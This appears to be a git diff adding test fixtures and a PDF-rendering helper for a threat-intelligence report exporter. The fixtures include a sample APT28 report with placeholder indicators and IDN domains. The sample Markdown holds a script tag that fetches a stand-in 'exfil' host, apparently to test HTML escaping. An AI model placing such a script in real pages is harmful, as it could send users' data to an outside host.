@@ -144,6 +144,56 @@ export const exportSet = (
   ...over,
 })
 
+export const REPORT_MD = `# Overview
+
+APT28 used **new infrastructure** and *fresh* lures; see [the advisory](https://advisories.example/apt28).
+
+- first finding
+- second finding with \`code\`
+
+> Quoted from the vendor.
+
+| Feed | Indicators | Cadence |
+|---|---:|---|
+| abuse.ch URLhaus | 1200 | daily |
+| AlienVault OTX | 33 | hourly |
+
+![diagram of the kill chain](https://img.example/kill-chain.png)
+
+<script>fetch('https://exfil.example/')</script>
+`
+
+export const reportRows = (): Indicator[] => [
+  indicator({
+    type: 'url',
+    value: 'https://evil.example.com/gate.php',
+    score: 97,
+    severity: 'critical',
+  }),
+  indicator({ type: 'domain', value: 'пример.рф', score: 90 }),
+  indicator({ type: 'domain', value: 'مثال.إختبار', score: 85, severity: 'medium' }),
+  indicator({ type: 'domain', value: '例子.测试', score: 80, severity: 'low' }),
+  indicator({ type: 'ip', value: '203.0.113.7', score: 70, severity: 'info' }),
+  indicator({ type: 'email', value: 'payroll@phish.example.org', score: 60 }),
+  indicator({ type: 'sha256', value: 'a'.repeat(64), score: 50 }),
+]
+
+/** A threat report with Markdown, entities and IDN values in three scripts. */
+export const reportSet = (over: Partial<ExportSet> = {}): ExportSet =>
+  exportSet(reportRows(), {
+    title: 'APT28 spring campaign',
+    summary: 'Infrastructure and lures seen in the spring campaign.',
+    markdown: REPORT_MD,
+    entities: [
+      actor('APT28', {
+        aliases: ['Fancy Bear', 'Sofacy'],
+        description: 'A Russian espionage actor.',
+      }),
+      vulnerability('CVE-2024-3400'),
+    ],
+    ...over,
+  })
+
 /** A Writable that keeps what it is given. */
 export const sink = (): { out: Writable; bytes: () => Buffer } => {
   const chunks: Buffer[] = []
@@ -203,6 +253,58 @@ export const pageTexts = async (pdf: Buffer, only?: readonly number[]): Promise<
       page.cleanup()
     }
     return pages
+  } finally {
+    await doc.destroy()
+  }
+}
+
+type Canvas = { toBuffer: (mime: 'image/png') => Buffer }
+type Context2d = {
+  getImageData: (x: number, y: number, w: number, h: number) => { data: Uint8ClampedArray }
+}
+export type PageImage = {
+  png: Buffer
+  width: number
+  height: number
+  rgb: (x: number, y: number) => string
+}
+
+/**
+ * Renders every page to a PNG with PDF.js on the @napi-rs/canvas backend it ships for Node (its optional
+ * dependency), and gives a pixel reader for assertions.
+ */
+export const pageImages = async (pdf: Buffer, scale = 1.5): Promise<PageImage[]> => {
+  const doc = await openPdf(pdf)
+  try {
+    const factory = doc.canvasFactory as unknown as {
+      create: (w: number, h: number) => { canvas: Canvas; context: Context2d }
+    }
+    const out: PageImage[] = []
+    for (let p = 1; p <= doc.numPages; p++) {
+      const page = await doc.getPage(p)
+      const viewport = page.getViewport({ scale })
+      const width = Math.ceil(viewport.width)
+      const height = Math.ceil(viewport.height)
+      const { canvas, context } = factory.create(width, height)
+      await page.render({
+        canvas: canvas as unknown as HTMLCanvasElement,
+        canvasContext: context as unknown as CanvasRenderingContext2D,
+        viewport,
+      }).promise
+      const data = context.getImageData(0, 0, width, height).data
+      const hex = (v: number | undefined): string => (v ?? 0).toString(16).padStart(2, '0')
+      out.push({
+        png: canvas.toBuffer('image/png'),
+        width,
+        height,
+        rgb: (x, y) => {
+          const i = (Math.round(y) * width + Math.round(x)) * 4
+          return `#${hex(data[i])}${hex(data[i + 1])}${hex(data[i + 2])}`
+        },
+      })
+      page.cleanup()
+    }
+    return out
   } finally {
     await doc.destroy()
   }
